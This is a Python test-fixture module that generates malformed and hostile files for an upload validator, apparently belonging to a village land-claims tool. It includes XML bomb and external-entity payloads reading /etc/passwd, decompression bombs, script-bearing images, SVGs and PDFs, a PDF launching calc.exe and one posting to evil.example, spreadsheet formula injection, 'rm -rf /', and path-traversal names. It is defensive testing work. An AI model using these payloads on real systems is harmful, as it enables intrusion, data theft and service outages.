"""Files made to harm, built in code: what each is, and what a reader that is careful makes of it."""

import io
import json
import struct
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image, PngImagePlugin

MB = 2**20
# Files by what they are; the large ones are made when they are asked for (``made``).
NINE = (
    "Village",
    "Année",
    "Début",
    "Réponse du chef",
    "Superficie",
    "Femmes alors",
    "Femmes maintenant",
    "Comment le savez-vous",
    "Photo",
)
SHEET = "xl/worksheets/sheet1.xml"
SCRIPT = b"<html><body><script>window.hacked=1</script></body></html>"
# An XML file that grows to a gigabyte, and one that reads a file of the machine.
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><l>&i;</l>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
ROWS = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


def made(file):
    return file() if callable(file) else file


# --- pictures -----------------------------------------------------------------------------------------------------


def picture(kind="JPEG", size=(16, 16), **how):
    out = io.BytesIO()
    Image.new("RGB", size, (90, 120, 40)).save(out, kind, **how)
    return out.getvalue()


def located(*, turned=False):
    """EXIF that tells where a photo was taken, and by whom; perhaps that it lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6 if turned else 1
    exif[0x013B] = "Kadiassa"  # artist
    exif.get_ifd(0x8825).update({1: "N", 2: (14.0, 11.0, 20.0), 3: "W", 4: (3.0, 44.0, 57.0)})
    return exif


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>14,11.3N</exif:GPSLatitude> Kadiassa</x:xmpmeta>'


def told_png():
    """A PNG with texts, EXIF and XMP."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Kadiassa")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return picture("PNG", pnginfo=info, exif=located())


def two_in_one():
    """A photo as many telephones take it: the picture and a second one behind it, in one JPEG (MPO)."""
    out = io.BytesIO()
    first = Image.new("RGB", (16, 16), (90, 120, 40))
    first.save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (8, 8))], exif=located())
    return out.getvalue()


def png(width, height, data=b""):
    """A PNG whose head says any size."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def white_png(side):
    """All of its pixels are there: a few kilobytes that are unpacked to gigabytes."""
    packer = zlib.compressobj(9)
    line = b"\x00" + b"\xff" * (3 * side)
    data = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    return png(side, side, data)


def pdf(catalog, *objects):
    body = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R " + catalog + b">> endobj\n"
    body += b"2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n" + b"".join(objects)
    return body + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def packed_pdf():
    """The script stands in a packed stream, where nobody finds it by looking."""
    inner = zlib.compress(b"3 0 4 40 <</S/JavaScript/JS(app.alert(1))>>")
    stream = b"9 0 obj <</Type/ObjStm/N 2/First 8/Filter/FlateDecode/Length %d>> stream\n" % len(inner)
    return pdf(b"/OpenAction 3 0 R", stream + inner + b"\nendstream endobj\n")


TAKEN_IN = {
    "JPEG with a place, a comment and XMP": picture(exif=located(), comment=b"Kadiassa", xmp=XMP),
    "PNG with texts": told_png(), "WebP with EXIF and XMP": picture("WEBP", exif=located(), xmp=XMP),
    "JPEG turned by EXIF": picture(exif=located(turned=True)),
    "two pictures in one": two_in_one(), "HTML behind a JPEG": picture() + SCRIPT,
    "zip behind a PNG": picture("PNG") + b"PK\x03\x04Kadiassa", "script in a comment": picture(comment=SCRIPT),
    "one pixel": picture("PNG", size=(1, 1)),
}  # fmt: skip
SAVED_NOT_SHOWN = {"a plain scan": pdf(b"")}
HEARD = {
    "MP3 with HTML in its tags": b"ID3\x03\x00\x00\x00\x00\x00\x7f" + SCRIPT, "MP3 that is a zip": b"ID3PK\x03\x04" + b"\0" * 99,
    "Ogg with a script": b"OggS" + SCRIPT, "WAV that says any size": b"RIFF\xff\xff\xff\xffWAVE" + SCRIPT,
}  # fmt: skip
REFUSED = {
    "nothing": b"", "zeros": b"\0" * 999, "more than is taken": lambda: b"\xff\xd8\xff" + b"\0" * (51 * MB),
    "HTML": SCRIPT, "HTML that calls itself a JPEG": b"\xff\xd8\xff" + SCRIPT, "SVG": b"<svg onload='window.hacked=1'/>",
    "SVG after a declaration": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    "GIF that is a script": b"GIF89a=1;window.hacked=1;//", "half a JPEG": picture(size=(200, 200))[:400],
    "a JPEG's first bytes": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "a PNG larger than the world": png(2**31 - 1, 2**31 - 1),
    "a PNG of a gigapixel": png(40_000, 40_000), "a PNG cut short": png(4_000, 4_000, zlib.compress(b"\0")[:4]),
    "a PNG of no size": png(0, 0), "EXIF that loops": picture()[:2] + b"\xff\xe1\x00\x20Exif\0\0MM\0*\0\0\0\x08\xff\xff" + b"\xff" * 20,
    "a program": b"MZ\x90\x00" + b"\0" * 99, "a program of Linux": b"\x7fELF" + b"\0" * 99,
    "a virus for tests": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "a shell script": b"#!/bin/sh\nrm -rf /\n", "a zip": b"PK\x03\x04" + b"\0" * 99, "PostScript": b"%!PS-Adobe\n(x) run\n",
    "TIFF": b"II*\0" + b"\xff" * 99, "BMP": b"BM" + b"\xff" * 99, "an icon": b"\0\0\1\0" + b"\xff" * 99,
    "PDF that runs a script": pdf(b"/OpenAction <</S/JavaScript/JS(app.alert(1))>>"),
    "PDF whose script is spelled otherwise": pdf(b"/OpenAction <</S/J#61vaScript/#4aS(app.alert(1))>>"),
    "PDF that starts a program": pdf(b"/OpenAction <</S/Launch/F(calc.exe)>>"),
    "PDF with a file in it": pdf(b"/Names <</EmbeddedFiles 3 0 R>>"), "PDF with a packed script": packed_pdf(),
    "PDF with a packed bomb": lambda: pdf(b"", b"9 0 obj <</Type/ObjStm/Filter/FlateDecode>> stream\n" + zlib.compress(b"\0" * 300 * MB) + b"\nendstream"),
    "PDF that sends a form": pdf(b"/OpenAction <</S/SubmitForm/F(http://evil.example)>>"),
}  # fmt: skip


# --- tables -------------------------------------------------------------------------------------------------------


def workbook(rows, name="Feuil1", state="visible"):
    book = Workbook()
    book.active.title, book.active.sheet_state = name, state
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(data, part, text, method=zipfile.ZIP_DEFLATED):
    """A workbook one of whose parts says something else."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", method) as new:
        for one in old.infolist():
            new.writestr(one, text if one.filename == part else old.read(one))
        if part not in old.namelist():
            new.writestr(part, text)
    return out.getvalue()


def understated(data):
    """A workbook whose directory says that its parts are small."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 10)
        at = out.find(b"PK\x01\x02", at + 1)
    return bytes(out)


def story(*cells):
    return (*cells, *[""] * (9 - len(cells)))


GOOD = story("Parou", "2013", "demande", "oui", "3 ha", "50", "48", "vu")
PLAIN = workbook([NINE, GOOD])
FORMULAS = workbook(
    [NINE, story("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "@SUM(A1)", "-1")]
)
DEEP = ROWS.format('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def far():
    """A cell far to the right in every row: each row is thousands of empty cells."""
    return ROWS.format("".join(f'<row r="{i}"><c r="XFD{i}"/></row>' for i in range(1, 150_000)))


def repeated():
    return ROWS.format('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>' * 400_000)


NO_TABLES = {
    "nothing": b"", "spaces": b" \n" * 999, "zeros": b"\0" * 9_999, "zeros in a CSV": b"Village;Ann\0e\nParou;2013\n",
    "a line of 100 MB": lambda: b"a" * (100 * MB), "more bytes than a sheet has": lambda: b"Village;2013;x\n" * (2 * MB),
    "rows beyond measure": b"Village;2013;x\n" * 9_999, "columns beyond measure": b";".join([b"x"] * 9_999) + b"\n",
    "UTF-16 cut in half": "Village;Année\n".encode("utf-16")[:-1], "UTF-32": "Village;Année\n".encode("utf-32"),
    "a field without end": b'"' + b"a" * 300_000 + b"\n;", "HTML": SCRIPT, "a database": b"SQLite format 3\0" + b"\0" * 999,
    "XML that laughs": LAUGHS.encode(), "a PDF": pdf(b""), "a picture": picture("PNG"),
    "half a book": PLAIN[:400], "an empty zip": b"PK\x05\x06" + b"\0" * 18,
    "entities that laugh": with_part(PLAIN, SHEET, LAUGHS), "entities from outside": with_part(PLAIN, SHEET, OUTSIDE),
    "shared strings that laugh": with_part(PLAIN, "xl/sharedStrings.xml", LAUGHS),
    "a gigabyte of zeros": lambda: with_part(PLAIN, SHEET, b"\0" * (300 * MB)),
    "parts that understate themselves": lambda: understated(with_part(PLAIN, SHEET, b" " * (80 * MB))),
    "rows that are far apart": lambda: with_part(PLAIN, SHEET, far()), "a row at the end of the world": with_part(PLAIN, SHEET, DEEP),
    "a row that comes again and again": lambda: with_part(PLAIN, SHEET, repeated()),
    "a book with a password": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
    "an old book": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999, "a book without its end": PLAIN[:-40],
}  # fmt: skip


# --- names ----------------------------------------------------------------------------------------------------------

NAMES = (
    "../../x", "..\\..\\x", "/etc/passwd", "C:\\x", "a\0b", "x" * 300, "é" * 300, "a\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    ".", "..", " ", "CON", "nul.jpg", "a\nb", "*", "~", "$HOME", "%2e%2e%2fx", "file:///etc/passwd", "\\\\host\\share",
)  # fmt: skip


# --- stories ------------------------------------------------------------------------------------------------------

LINES = (
    "[" * 100_000, '{"do":' * 50_000, '{"do": "village.add", "name": ' + "9" * 10_000 + "}", '{"do": "village.add", "name": NaN}',
    '{"do": "village.add", "name": "x", "name": "y"}', '{"do": "village.add", "name": "\\ud800"}', '{"do": "village.add", "name": "\\u0000"}',
    '{"do": "village.add", "name": "x", "point": {"type": "Point", "coordinates": [1e400, NaN]}}', "null", "0", '"x"', "[]", "{}",
    '{"do": null}', '{"do": ["village.add"]}', '{"do": {}, "on": {}}', '{"do": "village.add", "name": "x", "on": 1e308}',
    '{"do": "__class__.__init__"}', '{"do": "village.add", "name": "x", "as": {"a": 1}}', '{"do": "village.add", "by": "admin", "name": 5}',
    '{"do": "claim.lodge", "claim": ' + json.dumps([{}] * 99) + "}", '{"do": "event.correct", "event": "x", "facts": ' + "[" * 900 + "]" * 900 + "}",
    '{"do": "setting.change", "key": "one_officer", "setting_value": Infinity}', "\x00", "\ufeff{", "{" + " " * 999_999,
    '{"do": "person.count", "village": "x", "count": 99999999999999999999}', '{"do": "person.count", "village": "x", "count": -1}',
)  # fmt: skip
